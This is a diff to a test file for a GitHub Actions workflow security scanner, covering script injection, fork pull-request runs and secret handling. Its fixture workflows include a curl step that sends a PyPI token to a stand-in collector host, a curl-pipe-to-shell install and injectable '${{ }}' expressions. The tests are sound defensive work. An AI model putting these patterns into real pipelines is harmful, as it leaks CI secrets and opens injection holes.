@@ -160,9 +160,13 @@ jobs:
 `,
     });
     expect(privileged.findings).toMatchObject([{ severity: 'CRIT', file: '.github/workflows/t.yaml', line: 10, evidence: '${{ github.event.comment.body }} under issue_comment' }]);
-    const plain = await analyze(wf(`on: pull_request\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo start\n          echo "\${{github.head_ref}}"\n`));
+    const plain = await analyze(wf(`on: push\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo start\n          echo "\${{github.event.head_commit.message}}"\n`));
     expect(plain.findings).toMatchObject([{ severity: 'HIGH', line: 8, title: expect.stringContaining('script injection') }]);
     expect(plain.verdict).toBe('WARN');
+    // A fork's pull_request run has no secrets and a read-only token: reported, not a warning.
+    const fork = await analyze(wf(`on: pull_request\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git fetch origin \${{ github.head_ref }}\n`));
+    expect(fork.findings).toMatchObject([{ severity: 'MED', line: 6 }]);
+    expect(fork.verdict).toBe('ALLOW');
   });
 
   it('blocks an action whose tag was repointed to malicious code; an unpinned third-party action alone is LOW', async () => {
@@ -187,6 +191,12 @@ jobs:
       - run: curl -d "t=\${{ secrets.PYPI_TOKEN }}" https://collector.example/x
       - run: curl -sSf https://sh.rustup.rs | sh -s -- -y
       - run: 'curl -H "Authorization: Bearer \${{ secrets.GITHUB_TOKEN }}" https://api.github.com/user'
+      - run: 'curl -X POST -H "Authorization: Bearer \${{ secrets.DEPLOY_TOKEN }}" https://deploy.acme.example/hook'
+      - run: |
+          echo "\${{ secrets.SSH_KEY }}" > ~/.ssh/id_ed25519
+          echo "//registry.npmjs.org/:_authToken=\${{ secrets.NPM_TOKEN }}" >> ~/.npmrc
+          echo "\${{ secrets.REGISTRY_PASSWORD }}" | docker login ghcr.io -u bot --password-stdin
+          echo "::add-mask::\${{ secrets.EXTRA }}"
 `),
     );
     expect(result.findings.map((f) => [f.severity, f.line, f.title])).toEqual([
